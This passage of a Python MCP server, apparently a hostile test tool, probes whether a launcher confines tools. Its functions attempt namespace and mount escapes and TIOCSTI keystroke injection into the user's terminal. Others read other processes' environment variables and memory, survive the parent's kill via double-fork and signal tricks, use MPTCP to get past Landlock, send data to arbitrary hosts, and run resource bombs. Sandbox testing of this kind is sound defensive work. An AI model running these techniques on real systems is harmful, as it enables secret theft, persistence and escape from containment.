        return f"ESCAPED: a forked child entered a new user namespace (in-process: {direct})"
    return f"BLOCKED: in-process: {direct}; forked child: {forked or 'fork failed'}"


@mcp.tool()
def mount_tmpfs() -> str:
    """Mount a tmpfs: in a forked child inside fresh user+mount namespaces, else directly."""
    target = _unique("mnt")
    os.mkdir(target)
    try:
        # The child's mount lives and dies in its own mount namespace: the host is untouched.
        forked = _in_forked_child(
            lambda: _unshare_user_and_mount(target.encode()),
        )
        if forked == "ok":
            return "ESCAPED: a forked child mounted a tmpfs in its own namespaces"
        if LIBC.mount(b"none", target.encode(), b"tmpfs", 0, None) == 0:
            LIBC.umount2(target.encode(), 2)
            return f"ESCAPED: mounted a tmpfs on {target}"
        return f"BLOCKED: mount: {_errno()}; forked child: {forked or 'fork failed'}"
    finally:
        os.rmdir(target)


def _unshare_user_and_mount(target: bytes) -> int:
    if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return 2
    return _mount_tmpfs(target)


@mcp.tool()
def proc_status() -> str:
    """Report NoNewPrivs, CapEff and Seccomp from /proc/self/status."""
    fields = {}
    with open("/proc/self/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("NoNewPrivs", "CapEff", "CapPrm", "CapBnd", "Seccomp"):
                fields[key] = value.strip()
    summary = " ".join(f"{k}={v}" for k, v in sorted(fields.items()))
    hardened = (
        fields.get("NoNewPrivs") == "1"
        and fields.get("CapEff") == "0000000000000000"
        and fields.get("Seccomp") == "2"
    )
    return f"{'BLOCKED' if hardened else 'ESCAPED'}: {summary}"


@mcp.tool()
def list_processes() -> str:
    """List the processes visible in /proc, with our parent and what PID 1 runs."""
    own = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    others = [p for p in pids if p not in (own, 1)]
    try:
        with open("/proc/1/cmdline", "rb") as f:
            init = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
    except OSError as e:
        init = _err(e)
    summary = json.dumps(
        {"own": own, "ppid": os.getppid(), "init": init, "pids": pids[:200], "count": len(pids)}
    )
    return f"{'ESCAPED' if others else 'BLOCKED'}: {summary}"


@mcp.tool()
def find_env(name: str) -> str:
    """Look for a variable in the environment and in every readable /proc/*/environ."""
    found = []
    if name in os.environ:
        found.append(f"os.environ[{name}]={os.environ[name]!r}")
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            with open(f"/proc/{p}/environ", "rb") as f:
                for entry in f.read().split(b"\0"):
                    if entry.startswith(name.encode() + b"="):
                        found.append(f"/proc/{p}/environ: {entry.decode(errors='replace')!r}")
        except OSError:
            pass
    if found:
        return f"ESCAPED: {found}"
    return f"BLOCKED: {name} is nowhere; environment keys {sorted(os.environ)}"


@mcp.tool()
def read_fd(fd: int) -> str:
    """Read from a descriptor number the tool never opened (inherited from its parent?)."""
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
        data = os.pread(fd, 4096, 0)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: fd {fd}: {_err(e)}; open fds {sorted(os.listdir('/proc/self/fd'))}"
    return f"ESCAPED: fd {fd} -> {target}: {data.decode(errors='replace')!r}"


@mcp.tool()
def terminal_injection() -> str:
    """Push a keystroke into the terminal on stdio with TIOCSTI (typed into the user's shell)."""
    import fcntl
    import termios

    ttys = [fd for fd in (0, 1, 2) if os.isatty(fd)]
    if not ttys:
        return "BLOCKED: no terminal among stdin, stdout and stderr (nothing to inject into)"
    errors = []
    for fd in ttys:
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"#")
        except OSError as e:
            errors.append(f"TIOCSTI on fd {fd}: {_err(e)}")
            continue
        return f"ESCAPED: TIOCSTI pushed a byte into the terminal on fd {fd}"
    return "BLOCKED: " + "; ".join(errors)


@mcp.tool()
def identity() -> str:
    """Host name, ids and session, as seen by the tool."""
    return "WORKS: " + json.dumps(
        {
            "hostname": socket.gethostname(),
            "pid": os.getpid(),
            "uid": os.getuid(),
            "gid": os.getgid(),
            "sid": os.getsid(0),
            "cwd": os.getcwd(),
            "env": dict(os.environ),
        }
    )


def _parent_death_signal() -> int:
    sig = ctypes.c_int(-1)
    LIBC.prctl(PR_GET_PDEATHSIG, ctypes.byref(sig), 0, 0, 0)
    return sig.value


def _survival_tricks(marker: str) -> dict:
    """The tricks of ``outlive_kill``, on the calling (main) thread."""
    steps = {"pdeathsig_before": _parent_death_signal()}
    rc = LIBC.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    steps["clear_pdeathsig"] = "ok" if rc == 0 else f"failed: {_errno()}"
    steps["pdeathsig_after"] = _parent_death_signal()
    ignored = []
    for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGQUIT", "SIGPIPE", "SIGUSR1", "SIGUSR2"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
        ignored.append(name)
    steps["ignored"] = ignored
    try:
        os.setsid()
        steps["setsid"] = "ok"
    except OSError as e:
        steps["setsid"] = f"failed: {_err(e)}"
    LIBC.prctl(PR_SET_NAME, ctypes.c_char_p(marker.encode()[:15]), 0, 0, 0)
    for tid in os.listdir("/proc/self/task"):
        try:
            with open(f"/proc/self/task/{tid}/comm", "w") as f:
                f.write(marker[:15])
        except OSError:
            pass  # confined, /proc is read-only: the main thread's name is enough
    try:
        child = os.fork()
    except OSError as e:
        steps["double_fork"] = f"failed: {_err(e)}"
    else:
        if child == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                        signal.signal(s, signal.SIG_IGN)
                    time.sleep(60)  # bounded: it ends by itself if nobody finds it
            finally:
                os._exit(0)
        os.waitpid(child, 0)
        steps["double_fork"] = "ok"
    return steps


@mcp.tool()
async def outlive_kill(marker: str, hold_seconds: float = 0.0) -> str:
    """Do everything a process can to outlive the kill of whoever started it, then wait.

    An async function, so it runs on the main thread, whose parent-death signal is the one
    the kernel sends when the parent dies (threads start without one). It clears that signal,
    ignores every catchable signal that ends a process, tries to leave its session and to
    double-fork a descendant into a session of its own, and names every thread ``marker``
    (at most 15 bytes) so the host can find what survives wherever it was reparented. Only the
    host can tell whether it worked: it kills our parent and looks for the marker. With
    ``hold_seconds`` the call does not answer for that long (to outlive a call timeout).
    """
    steps = _survival_tricks(marker)
    if hold_seconds > 0:
        await asyncio.sleep(hold_seconds)
    return "WORKS: " + json.dumps(steps)


# ---------------------------------------------------------------------------------------------
# Network.


@mcp.tool()
def tcp_connect(host: str, port: int, payload: str) -> str:
    """Connect over TCP and send ``payload``."""
    try:
        with socket.create_connection((host, port), timeout=5) as s:
            s.sendall(payload.encode())
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: connected to {host}:{port} and sent {len(payload)} bytes"


@mcp.tool()
def udp_send(host: str, port: int, payload: str) -> str:
    """Send a UDP datagram (only the receiver can tell whether it arrived)."""
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            sent = s.sendto(payload.encode(), (host, port))
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"SENT: {sent} bytes to {host}:{port}"


@mcp.tool()
def unix_connect(path: str, payload: str, abstract: bool = False) -> str:
    """Connect to a unix stream socket (pathname, or abstract when ``abstract``)."""
    address = "\0" + path if abstract else path
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(5)
            s.connect(address)
            s.sendall(payload.encode())
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: connected to {'@' if abstract else ''}{path}"


@mcp.tool()
def tcp_loopback_server() -> str:
    """Listen on a loopback port of our own and connect to it."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
            server.bind(("127.0.0.1", 0))
            server.listen(1)
            port = server.getsockname()[1]
            with socket.create_connection(("127.0.0.1", port), timeout=5):
                pass
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {_err(e)}"
    return f"ESCAPED: listened on and connected to 127.0.0.1:{port}"


@mcp.tool()
def open_socket(family: str, kind: str, protocol: int = 0) -> str:
    """Open a socket of a family or type a tool has no use for (netlink, packet, raw, vsock,
    the kernel crypto API, unix datagrams…)."""
    try:
        s = socket.socket(getattr(socket, family), getattr(socket, kind), protocol)
    except Exception as e:  # noqa: BLE001
        return f"BLOCKED: {family}/{kind}/{protocol}: {_err(e)}"
    s.close()
    return f"ESCAPED: opened a {family}/{kind}/{protocol} socket"


IPPROTO_MPTCP = 262
LANDLOCK_ACCESS_NET_BIND_TCP = 1
LANDLOCK_ACCESS_NET_CONNECT_TCP = 2
SYS_LANDLOCK_CREATE_RULESET = 444
SYS_LANDLOCK_RESTRICT_SELF = 446
PR_SET_NO_NEW_PRIVS = 38


def _landlock_deny_tcp() -> str | None:
    """Restrict the calling thread with Landlock as the launcher does for TCP: bind and connect
    handled, no port allowed. None when it holds, else why not."""

    class Attr(ctypes.Structure):
        _fields_ = [("fs", ctypes.c_uint64), ("net", ctypes.c_uint64)]

    attr = Attr(0, LANDLOCK_ACCESS_NET_BIND_TCP | LANDLOCK_ACCESS_NET_CONNECT_TCP)
    fd = LIBC.syscall(
        SYS_LANDLOCK_CREATE_RULESET, ctypes.byref(attr), ctypes.sizeof(attr), 0
    )
    if fd < 0:
        return f"landlock_create_ruleset: {_errno()}"
    try:
        if LIBC.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0:
            return f"no_new_privs: {_errno()}"
        if LIBC.syscall(SYS_LANDLOCK_RESTRICT_SELF, fd, 0) != 0:
            return f"landlock_restrict_self: {_errno()}"
    finally:
        os.close(fd)
    return None


def _loopback_roundtrip(protocol: int) -> str:
    """Listen on a loopback port of our own with ``protocol`` and connect to it; "ok" or why not."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as server:
            server.bind(("127.0.0.1", 0))
            server.listen(1)
            port = server.getsockname()[1]
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as client:
                client.settimeout(5)
                client.connect(("127.0.0.1", port))
                conn, _ = server.accept()
                with conn:
                    client.sendall(b"x")
                    conn.settimeout(5)
                    if conn.recv(1) != b"x":
                        return "no byte arrived"
    except Exception as e:  # noqa: BLE001
        return _err(e)
    return "ok"


@mcp.tool()
def mptcp_past_landlock(apply_landlock: bool = False) -> str:
    """Listen and connect on loopback over MPTCP, which Landlock's TCP rules do not cover.

    With ``apply_landlock`` (for the control), first restrict ourselves with Landlock the way
    the launcher does (TCP bind and connect handled, no port allowed), so the verdict shows
    MPTCP going where plain TCP is refused. Runs in a thread of its own: Landlock binds only
    the calling thread.
    """
    result = {}

    def attempt() -> None:
        if apply_landlock:
            failed = _landlock_deny_tcp()
            if failed:
                result["landlock"] = failed
                return
            result["landlock"] = "applied"
        result["tcp"] = _loopback_roundtrip(0)
        result["mptcp"] = _loopback_roundtrip(IPPROTO_MPTCP)

    t = threading.Thread(target=attempt)
    t.start()
    t.join(timeout=30)
    verdict = "ESCAPED" if result.get("mptcp") == "ok" else "BLOCKED"
    return f"{verdict}: " + json.dumps(result)


# ---------------------------------------------------------------------------------------------
# Resource exhaustion, each bounded so an unconfined run cannot hurt the host much.


@mcp.tool()
def memory_bomb(chunk_mib: int = 8, cap_mib: int = 2048) -> str:
    """Allocate memory until MemoryError (or ``cap_mib``)."""
    hoard = []
    try:
        while len(hoard) * chunk_mib < cap_mib:
            hoard.append(bytearray(chunk_mib << 20))
    except MemoryError:
        total = len(hoard) * chunk_mib
        hoard.clear()
        return f"BLOCKED: MemoryError after {total} MiB"
    total = len(hoard) * chunk_mib
    hoard.clear()
    return f"ESCAPED: allocated {total} MiB"


@mcp.tool()
def thread_bomb(cap: int = 1000) -> str:
    """Start threads (small stacks, so memory is not the limit) until it fails (or ``cap``)."""
    release = threading.Event()
    threads = []
    old = threading.stack_size(256 << 10)
    error = None
    try:
        while len(threads) < cap:
            t = threading.Thread(target=release.wait, daemon=True)
            t.start()
            threads.append(t)
    except Exception as e:  # noqa: BLE001
        error = e
    finally:
        threading.stack_size(old)
        release.set()
        for t in threads:
            t.join(timeout=5)
    live = threading.active_count()
    if error is not None:
        return f"BLOCKED: {_err(error)} after {len(threads)} threads (now {live} live)"
    return f"ESCAPED: started {len(threads)} threads"


@mcp.tool()
def fd_bomb(cap: int = 100000) -> str:
    """Open /dev/null until it fails (or ``cap``)."""
    fds = []
    try:
        while len(fds) < cap:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        count = len(fds)
        return f"BLOCKED: {errno.errorcode.get(e.errno, e.errno)} after {count} descriptors"
    finally:
        for fd in fds:
            os.close(fd)
    return f"ESCAPED: opened {len(fds)} descriptors"


@mcp.tool()
def cpu_spin(seconds: float = 30.0) -> str:
    """Spin the CPU for ``seconds`` of wall-clock time."""
    start = time.monotonic()
    n = 0
    while time.monotonic() - start < seconds:
        n += 1
    return f"ESCAPED: spun {seconds} s ({n} iterations)"


@mcp.tool()
def signal_pid(pid: int) -> str:
    """Send SIGCONT (harmless, but a signal all the same) to ``pid``."""
    try:
        os.kill(pid, signal.SIGCONT)
    except OSError as e:
        return f"BLOCKED: kill {pid}: {_err(e)}"
    return f"ESCAPED: signalled pid {pid}"


@mcp.tool()
def read_memory(pid: int) -> str:
    """Read the first readable mapping of ``pid`` through /proc/<pid>/mem."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            first = next(line for line in f if line.split()[1].startswith("r"))
        start = int(first.split("-")[0], 16)
        with open(f"/proc/{pid}/mem", "rb") as mem:
            mem.seek(start)
            data = mem.read(16)
    except (OSError, StopIteration) as e:
        return f"BLOCKED: /proc/{pid}/mem: {e!r}"
    return f"ESCAPED: read {len(data)} bytes of pid {pid} at {start:#x}"


SHM_SIZE = 4096


@mcp.tool()
def shm_share(key: int, create: bool) -> str:
    """Create (or find) the System V shared memory segment ``key``, the way two processes would
    share memory."""
    ipc_creat = 0o1000
    LIBC.shmget.restype = ctypes.c_int
    flags = (ipc_creat | 0o600) if create else 0o600
    shmid = LIBC.shmget(ctypes.c_int(key), ctypes.c_size_t(SHM_SIZE), ctypes.c_int(flags))
    if shmid < 0:
        return f"BLOCKED: shmget({key:#x}, create={create}): {_errno()}"
    return f"ESCAPED: segment {key:#x} is id {shmid} (create={create})"


@mcp.tool()
def shm_remove(key: int) -> str:
    """Remove the segment ``key`` (test clean-up)."""
    LIBC.shmget.restype = ctypes.c_int
    shmid = LIBC.shmget(ctypes.c_int(key), ctypes.c_size_t(SHM_SIZE), ctypes.c_int(0o600))
    if shmid < 0:
        return f"BLOCKED: {_errno()}"
    LIBC.shmctl(shmid, 0, None)
    return "WORKS: removed"


@mcp.tool()
def write_sockets() -> str:
    """Send a start request on every socket descriptor this process started with beyond stdio
    (a template's control socket, say)."""
    sent, seen = [], []
    for fd in STARTED_WITH:
        if fd <= 2:
            continue
        try:
            import stat

            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            seen.append(fd)
            s = socket.socket(fileno=os.dup(fd))
            try:
                s.send(b'{"tool_dir": "/"}')
                sent.append(fd)
            finally:
                s.close()
        except OSError:
            continue
    if sent:
        return f"ESCAPED: wrote to socket descriptors {sent}"
    return f"BLOCKED: no socket descriptor to write to (sockets seen: {seen})"


if __name__ == "__main__":
    print("attack_tool: started", file=sys.stderr, flush=True)
    mcp.run()
